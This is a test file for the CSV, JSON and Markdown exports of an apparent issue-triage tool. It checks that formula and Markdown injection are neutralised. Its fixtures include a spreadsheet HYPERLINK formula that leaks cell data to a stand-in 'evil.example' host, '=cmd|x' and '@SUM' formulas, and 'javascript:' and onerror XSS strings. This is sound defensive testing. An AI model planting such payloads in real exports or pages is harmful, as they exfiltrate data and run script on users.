import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { DEFAULT_SETTINGS } from '@/lib/settings';
import { toRow } from '../triage/rows';
import { makeIssue, summaryOf } from '../triage/testing';
import { defuseCell, escapeMarkdown, toCsv, toExportRow, toJson, toMarkdown, type ExportRow } from './export';

const hostile = '=HYPERLINK("https://evil.example/?x="&A1,"Click")';
const row = (over: Partial<ExportRow> = {}): ExportRow => ({
  ...toExportRow(
    toRow(makeIssue(7), { now: Date.now(), userBases: {}, thresholds: DEFAULT_SETTINGS.list.impactThresholds }),
    (id) => `https://acme.sentry.io/issues/${id}/`,
  ),
  ...over,
});

describe('CSV export', () => {
  it('defuses formula cells and still round-trips quotes, commas and newlines', () => {
    const csv = toCsv([
      row({ title: hostile }),
      row({ title: 'a,"b"\nc', shortId: '+1', level: '-2', status: '@SUM(A1)' }),
    ]);
    const parsed = Papa.parse<string[]>(csv.trim(), { skipEmptyLines: true }).data;
    expect(parsed[0]).toEqual([
      'id',
      'shortId',
      'title',
      'link',
      'level',
      'status',
      'events',
      'users',
      'priority',
      'priorityLevel',
      'impact',
      'firstSeen',
      'lastSeen',
      'summary',
      'cause',
    ]);
    expect(parsed[1]![2]).toBe(`'${hostile}`);
    expect(parsed[2]!.slice(1, 6)).toEqual([
      "'+1",
      'a,"b"\nc',
      'https://acme.sentry.io/issues/1007/',
      "'-2",
      "'@SUM(A1)",
    ]);
    expect(parsed[1]![6]).toBe('71');
    for (const line of parsed.slice(1)) for (const cell of line) expect(cell).not.toMatch(/^[=+@]/);
  });
  it('leaves ordinary text alone', () => {
    expect(defuseCell('TypeError: x')).toBe('TypeError: x');
    expect(defuseCell('\tcmd')).toBe("'\tcmd");
    expect(defuseCell(null)).toBe('');
  });
});

describe('JSON export', () => {
  it('keeps every field and value exactly, hostile text included', () => {
    const rows = [row({ title: hostile }), row({ users: null })];
    expect(JSON.parse(toJson(rows))).toEqual(rows);
  });
});

describe('Markdown report', () => {
  it('escapes titles so they cannot inject links, HTML or headings', () => {
    const md = toMarkdown([row({ title: '# [click](javascript:alert(1)) <img src=x onerror=alert(1)>\n## fake' })], {
      title: 'Outage',
      generatedAt: new Date('2025-06-01T00:00:00Z'),
    });
    expect(md).toContain('# Outage');
    expect(md).not.toContain('<img');
    expect(md).not.toContain('](javascript');
    expect(md).toContain(
      '\\# \\[click\\]\\(javascript:alert\\(1\\)\\) &lt;img src=x onerror=alert\\(1\\)&gt; \\#\\# fake',
    );
    expect(md.split('\n').filter((l) => l.startsWith('## '))).toHaveLength(1);
  });
  it('lists the fields a ticket needs and links only http(s)', () => {
    const md = toMarkdown([row(), row({ link: 'javascript:alert(1)', title: 'Bad link' })], {
      generatedAt: new Date('2025-06-01T00:00:00Z'),
    });
    expect(md).toContain('2 issues, exported 2025-06-01T00:00:00.000Z');
    expect(md).toContain('## [Error number 7](https://acme.sentry.io/issues/1007/)');
    expect(md).toContain('- **Events:** 71 · **Users:** 7');
    expect(md).toMatch(/- \*\*Priority:\*\* \d+ \((critical|high|medium|low)\)/);
    expect(md).toContain('## Bad link');
    expect(md).not.toContain('javascript:');
  });
  it('escapes markdown punctuation', () => expect(escapeMarkdown('a*b_c`d|e')).toBe('a\\*b\\_c\\`d\\|e'));
});

describe('the one-line summary in the exports', () => {
  const issueRow = toRow(makeIssue(7), {
    now: Date.now(),
    userBases: {},
    thresholds: DEFAULT_SETTINGS.list.impactThresholds,
  });
  const link = (id: string) => `https://acme.sentry.io/issues/${id}/`;
  it('carries the line and the cause where the row has an answer, nothing where it has none or an unknown one', () => {
    expect(
      toExportRow(issueRow, link, {
        state: 'done',
        summary: summaryOf('1007', { summary: '=cmd|x', cause: 'bad-input' }),
      }),
    ).toMatchObject({ summary: '=cmd|x', cause: 'bad-input' });
    expect(
      toExportRow(issueRow, link, {
        state: 'done',
        summary: summaryOf('1007', { status: 'unknown', summary: '', cause: 'unknown' }),
      }),
    ).toMatchObject({ summary: '', cause: '' });
    expect(toExportRow(issueRow, link, { state: 'asking', priority: 'view' })).toMatchObject({
      summary: '',
      cause: '',
    });
    expect(toExportRow(issueRow, link)).toMatchObject({ summary: '', cause: '' });
  });
  it('defuses the line in CSV and escapes it in Markdown, with the cause in words', () => {
    const r = toExportRow(issueRow, link, {
      state: 'done',
      summary: summaryOf('1007', { summary: '=HYPERLINK("x") *bold* [a](b)', cause: 'bad-input' }),
    });
    const parsed = Papa.parse<string[]>(toCsv([r]).trim()).data;
    expect(parsed[1]!.slice(-2)).toEqual([`'=HYPERLINK("x") *bold* [a](b)`, 'bad-input']);
    expect(toMarkdown([r])).toContain(
      '- **Summary:** =HYPERLINK\\("x"\\) \\*bold\\* \\[a\\]\\(b\\) (suspected cause: bad input)',
    );
  });
});
